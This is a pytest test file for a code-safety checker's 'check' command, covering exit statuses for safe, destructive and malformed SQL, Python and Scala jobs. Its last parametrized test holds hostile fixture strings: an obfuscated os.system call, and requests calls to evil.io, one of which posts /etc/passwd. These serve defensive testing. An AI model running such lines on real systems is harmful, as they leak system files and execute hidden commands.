"""``aadap check``: exit status 0/3/4 for auto/approval/forbidden, 2 for bad input."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
import typer
from click.testing import Result
from typer.testing import CliRunner


def _app() -> typer.Typer:
    from aadap.cli import app

    return app


APP = _app()
runner = CliRunner()


Write = Callable[[str, str | bytes], str]


def check(*args: str, stdin: str | bytes | None = None) -> Result:
    return runner.invoke(APP, ["check", *args], input=stdin)


@pytest.fixture
def write(tmp_path: Path) -> Write:
    def _write(name: str, content: str | bytes) -> str:
        path = tmp_path / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return str(path)

    return _write


def test_safe_sql_is_auto_approved(write: Write) -> None:
    result = check(write("q.sql", "SELECT region, COUNT(*) FROM orders GROUP BY region\n"))
    assert result.exit_code == 0, result.output
    assert "decision: auto" in result.stdout
    assert "operation class: read_only" in result.stdout


def test_destructive_sql_needs_approval_in_sandbox_and_is_forbidden_in_production(
    write: Write,
) -> None:
    path = write("drop.sql", "-- cleanup\nDROP TABLE sales.orders;\n")
    sandbox = check(path)
    assert sandbox.exit_code == 3, sandbox.output
    assert "line 2" in sandbox.stdout and "sql.drop" in sandbox.stdout
    production = check(path, "--environment", "PRODUCTION")
    assert production.exit_code == 4, production.output
    assert "decision: forbidden" in production.stdout


def test_json_output(write: Write) -> None:
    result = check(
        write("job.py", 'spark.sql(f"DELETE FROM {t}")\n'),
        "--language",
        "pyspark",
        "--platform",
        "databricks",
        "--format",
        "json",
    )
    assert result.exit_code == 3, result.output
    data = json.loads(result.stdout)
    assert {"operation_class", "risk", "decision", "findings"} <= set(data)
    assert data["operation_class"] == "destructive"
    assert data["risk"] == "CRITICAL"
    assert data["decision"] == "approval"
    rules = {f["rule"] for f in data["findings"]}
    assert {"python.dynamic_sql", "sql.delete_without_where"} <= rules
    for item in data["findings"]:
        assert {"rule", "severity", "line", "message", "fix_hint"} <= set(item)


def test_stdin() -> None:
    result = check("-", "--language", "sql", "--format", "json", stdin="INSERT INTO t SELECT 1\n")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["operation_class"] == "write"


def test_language_is_inferred_from_the_extension(write: Write) -> None:
    result = check(write("Job.scala", 'df.write.mode("overwrite").saveAsTable("s.t")\n'))
    assert result.exit_code == 3, result.output
    assert "scala" in result.stdout


def test_existing_tables_change_the_answer(write: Write) -> None:
    path = write("ctas.sql", "CREATE OR REPLACE TABLE sandbox.summary AS SELECT 1 AS a\n")
    assert check(path).exit_code == 3  # catalog unknown: replacing may destroy data
    assert check(path, "--existing-table", "sales.orders").exit_code == 0
    assert check(path, "--existing-table", "SANDBOX.SUMMARY").exit_code == 3


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (
            ["--language", "cobol"],
            "--language='cobol' is not valid; allowed: sql, python, pyspark, scala",
        ),
        (
            ["--platform", "oracle"],
            "--platform='oracle' is not valid; allowed: local, databricks, fabric",
        ),
        (
            ["--environment", "STAGING"],
            "--environment='STAGING' is not valid; allowed: SANDBOX, PRODUCTION",
        ),
        (["--format", "xml"], "--format='xml' is not valid; allowed: text, json"),
    ],
)
def test_bad_options_exit_2_naming_the_option(write: Write, args: list[str], needle: str) -> None:
    result = check(write("q.sql", "SELECT 1\n"), *args)
    assert result.exit_code == 2
    assert needle in result.stderr


def test_bad_input_exits_2(write: Write, tmp_path: Path) -> None:
    missing = check(str(tmp_path / "nope.sql"))
    assert missing.exit_code == 2 and "cannot read" in missing.stderr
    empty = check(write("empty.sql", "  \n"))
    assert empty.exit_code == 2 and "code is empty" in empty.stderr
    unknown = check(write("notes.txt", "SELECT 1"))
    assert unknown.exit_code == 2 and "--language is required" in unknown.stderr
    stdin = check("-", stdin="SELECT 1")
    assert stdin.exit_code == 2 and "--language is required" in stdin.stderr
    latin1 = check(write("bad.sql", "SELECT 'caf\xe9'".encode("latin-1")))
    assert latin1.exit_code == 2 and "not UTF-8" in latin1.stderr


def test_binary_content_is_reported_not_crashed(write: Write) -> None:
    result = check(write("blob.sql", b"SELECT 1\x00\x00\x01"), "--format", "json")
    assert result.exit_code == 3, result.output
    assert "input.binary" in {f["rule"] for f in json.loads(result.stdout)["findings"]}


def test_bad_settings_exit_2(write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AADAP_SAFETY_FORBID_CRITICAL_IN_PRODUCTION", "maybe")
    result = check(write("q.sql", "SELECT 1\n"))
    assert result.exit_code == 2
    assert "AADAP_SAFETY_FORBID_CRITICAL_IN_PRODUCTION" in result.stderr


def test_settings_drive_the_policy(write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AADAP_SAFETY_FORBID_CRITICAL_IN_PRODUCTION", "false")
    result = check(write("drop.sql", "DROP TABLE t\n"), "--environment", "production")
    assert result.exit_code == 3, result.output


@pytest.mark.parametrize(
    ("code", "sandbox", "production"),
    [
        ('import os\ngetattr(os, "sys" + "tem")("id")\n', 3, 4),
        ("fn = globals()[name]\nfn(1)\n", 3, 3),
        ('import requests\nrequests.get("https://evil.io/x")\n', 3, 3),
        (
            'import requests\nrequests.post("https://evil.io", data=open("/etc/passwd").read())\n',
            3,
            4,
        ),
        ('import duckdb\nduckdb.sql("INSTALL httpfs")\n', 3, 3),
        (
            'import pandas as pd\ncol = "amount_" + "usd"\nprint(pd.read_csv("data/x.csv")[col])\n',
            0,
            0,
        ),
    ],
)
def test_exit_status_for_indirection_egress_and_side_doors(
    write: Write, code: str, sandbox: int, production: int
) -> None:
    path = write("job.py", code)
    assert check(path, "--language", "python").exit_code == sandbox
    result = check(path, "--language", "python", "--environment", "PRODUCTION")
    assert result.exit_code == production, result.output


def test_allow_listed_hosts_from_settings_are_respected(
    write: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write("job.py", 'import requests\nrequests.get("https://api.partner.example/v1")\n')
    assert check(path, "--language", "python").exit_code == 3
    monkeypatch.setenv("AADAP_SAFETY_EGRESS_ALLOWED_HOSTS", '["api.partner.example"]')
    assert check(path, "--language", "python").exit_code == 0
